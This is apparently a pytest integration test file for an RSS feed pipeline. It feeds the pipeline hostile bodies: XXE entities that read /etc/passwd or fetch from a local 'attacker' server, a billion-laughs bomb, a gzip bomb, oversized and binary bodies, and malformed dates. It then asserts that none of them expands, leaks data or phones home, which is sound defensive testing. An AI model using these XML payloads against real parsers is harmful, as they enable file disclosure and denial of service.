"""Hostile feed bodies through the whole pipeline: entity bombs, external entities, binary
and oversized bodies, impossible dates. Each ends as a recorded outcome, never a crash."""

from __future__ import annotations

import gzip
import io
import itertools
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from sinorus import events, feeds, ingest
from sinorus.parse import EARLIEST
from tests.reliability.support import NOW, add_feeds, fetcher_for, query, record
from tests.support.servers import LocalServer, Reply

pytestmark = pytest.mark.integration

XML = {"Content-Type": "application/rss+xml"}
COUNTER = itertools.count()  # each entry links to its own /page?n=… (one route serves all)
PAGE = (
    "<html><head><title>Page</title></head><body><article>"
    + "".join(
        f"<p>Paragraph {i} of an ordinary article about nothing in particular.</p>"
        for i in range(12)
    )
    + "</article></body></html>"
).encode()


def feed(server: LocalServer, title: str, *, doctype: str = "", date: str | None = None) -> bytes:
    pub = date or NOW.strftime("%a, %d %b %Y %H:%M:%S +0000")
    return (
        f"<?xml version='1.0' encoding='utf-8'?>{doctype}<rss version='2.0'><channel>"
        f"<title>Hostile</title><item><title>{title}</title>"
        f"<link>{server.url('/page')}?n={next(COUNTER)}</link>"
        f"<description>{title}</description><pubDate>{pub}</pubDate></item></channel></rss>"
    ).encode()


def run_pipeline(db, server: LocalServer, bodies: dict[str, tuple[bytes, dict[str, str]]]):
    """Serve each body as a feed, run fetch, extract and detect; return fetch_log by name."""
    specs = []
    for name, (body, headers) in bodies.items():
        server.routes[f"/feeds/{name}.xml"] = Reply(200, body, headers)
        specs.append(feeds.FeedSpec(name, server.url(f"/feeds/{name}.xml"), "en"))
    server.routes["/page"] = Reply(200, PAGE, {"Content-Type": "text/html"})
    ids = add_feeds(db, specs)
    with fetcher_for(server.port, max_bytes=5_000_000) as fetcher:
        summary = ingest.fetch_feeds(db, ids, run_id="hostile", fetcher=fetcher)
        ingest.extract_pending(db, fetcher=fetcher)
    detected = events.detect_pending(db)
    assert summary.feeds == len(bodies)
    assert detected.errors == []
    return dict(
        query(
            db,
            "SELECT f.name, l.status || ': ' || coalesce(l.error, '') || ' / ' || "
            "coalesce(l.bozo, '') FROM fetch_log l JOIN feeds f ON f.id = l.feed_id",
        )
    )


def all_stored_text(db) -> str:
    rows = query(
        db,
        "SELECT concat_ws(' ', title, summary, body, author, extraction_error, url) FROM articles "
        "UNION ALL SELECT concat_ws(' ', status, error, bozo) FROM fetch_log "
        "UNION ALL SELECT concat_ws(' ', name, last_error) FROM feeds",
    )
    return "\n".join(r[0] or "" for r in rows)


def test_entity_bombs_and_external_entities_neither_expand_nor_reach_out(
    db, server: LocalServer, tmp_path: Path
) -> None:
    attacker = LocalServer().start()  # where an external entity would phone home
    marker = "SINORUS-XXE-MARKER-7f3a"
    secret = tmp_path / "secret.txt"
    secret.write_text(marker)
    attacker.routes["/evil.dtd"] = Reply(200, f"<!ENTITY leak '{marker}'>".encode())
    attacker.routes["/entity"] = Reply(200, marker.encode())
    passwd_head = Path("/etc/passwd").read_text().split(":", 1)[0] + ":x:0:0"
    laughs = "<!ENTITY a0 'lol'>" + "".join(
        "<!ENTITY a{} '{}'>".format(i, f"&a{i - 1};" * 10) for i in range(1, 10)
    )
    big = "B" * 100_000
    try:
        bodies = {
            "xxe-file": feed(
                server,
                "a &xxe; b",
                doctype="<!DOCTYPE rss [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>",
            ),
            "xxe-own-file": feed(
                server,
                "a &xxe; b",
                doctype=f"<!DOCTYPE rss [<!ENTITY xxe SYSTEM '{secret.as_uri()}'>]>",
            ),
            "xxe-http": feed(
                server,
                "a &xxe; b",
                doctype=f"<!DOCTYPE rss [<!ENTITY xxe SYSTEM '{attacker.url('/entity')}'>]>",
            ),
            "xxe-parameter": feed(
                server,
                "a &leak; b",
                doctype=(
                    f"<!DOCTYPE rss [<!ENTITY % dtd SYSTEM '{attacker.url('/evil.dtd')}'> %dtd;]>"
                ),
            ),
            "xxe-public-dtd": feed(
                server,
                "plain",
                doctype=f"<!DOCTYPE rss PUBLIC '-//X//Y' '{attacker.url('/evil.dtd')}'>",
            ),
            "billion-laughs": feed(server, "&a9;", doctype=f"<!DOCTYPE rss [{laughs}]>"),
            "quadratic": feed(
                server, "&big;" * 5000, doctype=f"<!DOCTYPE rss [<!ENTITY big '{big}'>]>"
            ),
        }
        log = run_pipeline(db, server, {k: (v, XML) for k, v in bodies.items()})
    finally:
        attacker.stop()
    assert attacker.requests == [], [r.path for r in attacker.requests]
    assert set(log) == set(bodies)
    stored = all_stored_text(db)
    assert marker not in stored
    assert passwd_head not in stored
    # No title grew from an entity: the longest is the parser's cut, not a billion "lol"s.
    [(longest,)] = query(db, "SELECT coalesce(max(length(title)), 0) FROM articles")
    assert longest <= 1000
    assert "lollollol" not in stored
    outcomes = sorted({v.split(":")[0] for v in log.values()})
    print(f"\nentity attacks: {len(bodies)} feeds, outcomes {outcomes}")
    record(bad_inputs=len(bodies))


def png_bytes() -> bytes:
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    raw = b"".join(b"\x00" + b"\xff\x00\x00" * 16 for _ in range(16))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("feed.xml", "<rss version='2.0'><channel/></rss>")
    return buffer.getvalue()


def test_binary_oversized_and_empty_bodies_are_recorded(db, server: LocalServer) -> None:
    one_line = feed(server, "T" * 2_000_000)  # title and summary: one 4 MB line, under the cap
    assert b"\n" not in one_line
    bodies = {
        "png": (png_bytes(), XML),
        "zip": (zip_bytes(), XML),
        "gzip-no-header": (gzip.compress(feed(server, "zipped")), XML),
        "gzip-bomb-as-body": (gzip.compress(b"\0" * 20_000_000), XML),
        "empty": (b"", XML),
        "nul-bytes": (b"\0" * 10_000, XML),
        "fifty-mb-line": (b"<rss>" + b"A" * 50_000_000, XML),
        "four-mb-line": (one_line, XML),
        "json": (b'{"items": [{"title": "not a feed"}]}', {"Content-Type": "application/json"}),
    }
    log = run_pipeline(db, server, bodies)
    assert set(log) == set(bodies)
    for name in ("png", "zip", "gzip-no-header", "gzip-bomb-as-body", "empty", "nul-bytes", "json"):
        assert log[name].startswith("failed: not a feed"), (name, log[name])
    assert log["fifty-mb-line"].startswith("failed: body over the 5,000,000-byte cap"), log
    assert log["four-mb-line"].startswith("ok"), log["four-mb-line"]
    [(title_length,)] = query(
        db,
        "SELECT length(a.title) FROM articles a JOIN feeds f ON f.id = a.feed_id "
        "WHERE f.name = 'four-mb-line'",
    )
    assert title_length == 1000  # cut to the parser's limit, not stored whole
    record(bad_inputs=len(bodies))


DATES = [
    "Mon, 01 Jan 0001 00:00:00 +0000",
    "0001-01-01T00:00:00Z",
    "Fri, 31 Dec 9999 23:59:59 +0000",
    "9999-12-31T23:59:59Z",
    "Thu, 01 Jan 1970 00:00:00 +0000",
    "1970-01-01T00:00:00Z",
    "Mon, 01 Jan 2024 10:00:00 -2359",
    "Mon, 01 Jan 2024 10:00:00 +9999",
    "Mon, 01 Jan 2024 10:00:00 -0000",
    "2024-02-30T00:00:00Z",
    "-0001-01-01",
    "2024-13-45T99:99:99+25:00",
    "yesterday",
    "",
    "\u0661\u0669\u0667\u0660-01-01",  # Arabic-Indic digits
    (NOW + timedelta(days=400)).strftime("%a, %d %b %Y %H:%M:%S +0000"),
    (NOW - timedelta(hours=3)).strftime("%a, %d %b %Y %H:%M:%S -1200"),
]


def test_dates_far_in_the_past_or_future_are_dropped_not_stored(db, server: LocalServer) -> None:
    bodies = {
        f"date-{i}": (feed(server, f"Dated entry {i}", date=d), XML) for i, d in enumerate(DATES)
    }
    log = run_pipeline(db, server, bodies)
    assert all(v.startswith("ok") for v in log.values()), log
    rows = query(db, "SELECT title, published_at FROM articles ORDER BY title")
    assert len(rows) == len(DATES)  # every entry kept, with or without a date
    latest = datetime.now(UTC) + timedelta(days=2)
    for title, published in rows:
        assert published is None or EARLIEST <= published <= latest, (title, published)
    by_title = dict(rows)
    assert by_title[f"Dated entry {len(DATES) - 1}"] is not None  # a real date with -12:00 kept
    for i in (0, 1, 2, 3, 4, 5, len(DATES) - 2):
        assert by_title[f"Dated entry {i}"] is None, DATES[i]
    record(bad_inputs=len(DATES))
